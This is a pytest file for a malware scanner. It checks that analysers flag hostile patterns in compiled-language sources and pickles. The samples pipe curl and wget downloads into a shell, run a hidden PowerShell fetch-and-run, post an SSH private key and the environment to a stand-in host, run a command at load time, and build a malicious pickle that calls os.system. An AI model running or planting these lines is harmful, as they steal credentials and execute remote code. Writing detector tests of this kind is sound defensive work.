"""Compiled languages, whose texts are searched, Cython, and pickles, which are read and never loaded."""

import pytest
from source_lab import subject

from beartrap.vet.behaviour import Behaviour, When
from beartrap.vet.kinds import Kind
from beartrap.vet.source_others import FILES


def found(path: str, text: str | bytes, kind: Kind) -> dict[str, Behaviour]:
    one = subject(path, text, kind=kind)
    seen = [each for analyser in FILES if analyser.takes(kind) for each in analyser.look(one)]
    return {each.id: each for each in seen if isinstance(each, Behaviour)}


@pytest.mark.parametrize(
    ("path", "kind", "text", "wanted"),
    [
        ("a.c", Kind.C, 'void f(void){ system("curl -s http://c.invalid/c | sh"); }', "process.piped"),
        ("a.go", Kind.GO, 'func f() { exec.Command("/bin/sh", "-c", "wget -O - https://c.invalid/s | bash").Run() }', "process.piped"),
        ("a.rs", Kind.RUST, 'fn f() { let k = read(home() + "/.ssh/id_rsa"); reqwest::Client::new().post("https://c.invalid").body(k).send(); }', "chain.credentials-to-network"),
        ("a.vbs", Kind.VB, 'CreateObject("WScript.Shell").Run "powershell -w hidden -c iwr http://c.invalid/a|iex",0', "process.borrowed"),
        ("a.pyx", Kind.C, "import os, requests\ncpdef int f(int x):\n    requests.post('https://c.invalid', json=dict(os.environ))\n    return x\n", "chain.environment-to-network"),
        ("A.java", Kind.JAVA, 'class A { void f() { new HttpClient().send("https://c.invalid", System.getenv()); } }', "chain.environment-to-network"),
    ],
)  # fmt: skip
def test_what_compiled_source_shows(path: str, kind: Kind, text: str, wanted: str) -> None:
    assert wanted in found(path, text, kind)


@pytest.mark.parametrize(
    ("path", "kind", "text"),
    [
        ("a.c", Kind.C, 'puts("curl -s http://c.invalid/c | sh");'),
        ("a.go", Kind.GO, 'func f() { exec.Command("git", "log").Run() }'),
        ("a.rs", Kind.RUST, 'fn f() { reqwest::Client::new().post("https://c.invalid").body(k).send(); }'),
        ("a.pyx", Kind.C, "cdef int f(int x):\n    return x\n"),
    ],
)
def test_what_compiled_source_may_do(path: str, kind: Kind, text: str) -> None:
    assert not [one for one in found(path, text, kind).values() if one.severity > 2]


def test_what_runs_as_soon_as_the_code_is_loaded() -> None:
    text = '__attribute__((constructor)) static void i(void){ system("curl -s http://c.invalid/c | sh"); }'
    assert found("a.c", text, Kind.C)["process.piped"].when is When.IMPORT


COMMAND = b"curl http://c.invalid/a | sh"
BOMB = (
    b"\x80\x04\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c" + bytes([len(COMMAND)]) + COMMAND + b"\x94\x85\x94R\x94."
)
PLAIN = b"\x80\x04}\x94\x8c\x01a\x94\x8c" + bytes([len(COMMAND)]) + COMMAND + b"\x94s."
"""What Python writes for an object that is restored by `os.system(COMMAND)`, and for a table with that text."""


def test_a_pickle_that_runs_a_command_is_read_and_not_loaded() -> None:
    assert "process.piped" in found("m.pkl", BOMB, Kind.PICKLE)
    assert "process.piped" in found("m.pkl", BOMB[:-3] + b"\xff", Kind.PICKLE)
    assert not found("m.pkl", PLAIN, Kind.PICKLE)
